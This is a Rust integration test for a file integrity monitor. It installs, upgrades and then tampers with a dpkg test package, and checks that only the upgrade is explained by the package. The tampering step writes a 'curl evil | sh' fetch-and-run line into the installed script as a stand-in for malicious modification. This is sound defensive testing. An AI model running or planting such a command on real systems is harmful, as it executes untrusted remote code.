//! Changes explained by packages, against the real dpkg: a package is built, installed,
//! baselined, upgraded and tampered with, and `fim check` must tell the upgrade from the
//! tampering. Needs root and dpkg (CI has both); skips with a note otherwise.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use common::{json, phiguard};

const PACKAGE: &str = "phiguard-fim-selftest";
const INSTALLED: &str = "/opt/phiguard-fim-selftest";

/// Removes the test package however the test ends.
struct Installed;

impl Drop for Installed {
    fn drop(&mut self) {
        let _ = Command::new("dpkg").args(["--purge", PACKAGE]).output();
        let _ = fs::remove_dir_all(INSTALLED);
    }
}

fn run(command: &mut Command) {
    // Another package manager run on the machine (an unattended upgrade, an apt-get in a
    // parallel job) holds dpkg's lock for a while; dpkg itself does not wait for it.
    let mut output = command.output().unwrap();
    for _ in 0..120 {
        if output.status.success()
            || !String::from_utf8_lossy(&output.stderr).contains("locked by another process")
        {
            break;
        }
        std::thread::sleep(std::time::Duration::from_secs(1));
        output = command.output().unwrap();
    }
    assert!(
        output.status.success(),
        "{command:?} failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
}

/// Builds a .deb holding `bin/tool` with `content`, with the md5sums file dpkg would get
/// from a Debian build.
fn build(dir: &Path, version: &str, content: &[u8]) -> PathBuf {
    let root = dir.join(format!("pkg-{version}"));
    let tool = root.join("opt/phiguard-fim-selftest/bin/tool");
    fs::create_dir_all(tool.parent().unwrap()).unwrap();
    fs::create_dir_all(root.join("DEBIAN")).unwrap();
    fs::write(&tool, content).unwrap();
    fs::write(
        root.join("DEBIAN/control"),
        format!(
            "Package: {PACKAGE}\nVersion: {version}\nArchitecture: all\nMaintainer: phiguard tests <tests@phiguard.invalid>\nDescription: test package for phiguard's FIM tests\n"
        ),
    )
    .unwrap();
    let md5 = phiguard_fim::packages::md5_file(&tool).unwrap();
    fs::write(
        root.join("DEBIAN/md5sums"),
        format!(
            "{}  opt/phiguard-fim-selftest/bin/tool\n",
            phiguard_core::hex::encode(&md5)
        ),
    )
    .unwrap();
    let deb = dir.join(format!("{PACKAGE}_{version}_all.deb"));
    run(Command::new("dpkg-deb")
        .args(["--root-owner-group", "--build"])
        .arg(&root)
        .arg(&deb));
    deb
}

fn changes(home: &Path) -> (i32, serde_json::Value) {
    let output = phiguard(home)
        .args(["--json", "fim", "check", INSTALLED])
        .output()
        .unwrap();
    (output.status.code().unwrap(), json(&output.stdout))
}

fn change_of<'a>(report: &'a serde_json::Value, path: &str) -> Option<&'a serde_json::Value> {
    report["changes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["path"] == path)
}

#[test]
fn an_upgrade_is_explained_and_tampering_is_not() {
    if rustix::process::geteuid().as_raw() != 0 {
        phiguard_testkit::missing(
            "root (to install a test package with dpkg)",
            "run the tests as root, as CI does",
        );
        return;
    }
    let (Some(_), Some(_)) = (
        phiguard_testkit::program("dpkg", "dpkg"),
        phiguard_testkit::program("dpkg-deb", "dpkg"),
    ) else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    let home = tmp.path().join("home");
    let v1 = build(tmp.path(), "1.0", b"#!/bin/sh\necho one\n");
    let v2 = build(tmp.path(), "2.0", b"#!/bin/sh\necho two\n");
    let _installed = Installed;
    run(Command::new("dpkg").arg("-i").arg(&v1));
    let local = Path::new(INSTALLED).join("local.conf");
    fs::write(&local, b"setting=1\n").unwrap();
    phiguard(&home)
        .args(["fim", "init", INSTALLED])
        .assert()
        .success();

    // The upgrade replaces bin/tool; someone also edits a file no package owns.
    run(Command::new("dpkg").arg("-i").arg(&v2));
    fs::write(&local, b"setting=2\n").unwrap();
    let (code, report) = changes(&home);
    assert_eq!(code, 1, "an unexplained change must fail: {report}");
    let tool = format!("{INSTALLED}/bin/tool");
    let upgraded =
        change_of(&report, &tool).unwrap_or_else(|| panic!("{tool} not reported: {report}"));
    assert_eq!(upgraded["explained_by"]["package"], PACKAGE, "{report}");
    assert_eq!(upgraded["explained_by"]["version"], "2.0");
    let edited = change_of(&report, local.to_str().unwrap()).unwrap();
    assert!(edited.get("explained_by").is_none(), "{report}");
    assert!(report["summary"]["unexplained"].as_u64().unwrap() >= 1);

    // Accept, then tamper with the packaged file: its content no longer matches dpkg's record.
    phiguard(&home)
        .args(["fim", "update", INSTALLED, "--reason", "upgrade to 2.0"])
        .assert()
        .success();
    let (code, report) = changes(&home);
    assert_eq!(code, 0, "{report}");
    fs::write(&tool, b"#!/bin/sh\ncurl evil | sh\n").unwrap();
    let (code, report) = changes(&home);
    assert_eq!(code, 1, "{report}");
    let tampered = change_of(&report, &tool).unwrap();
    assert!(
        tampered.get("explained_by").is_none(),
        "tampering was explained away: {report}"
    );
    assert!(
        tampered["attributes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|a| a["attribute"] == "hash"),
        "{report}"
    );
}
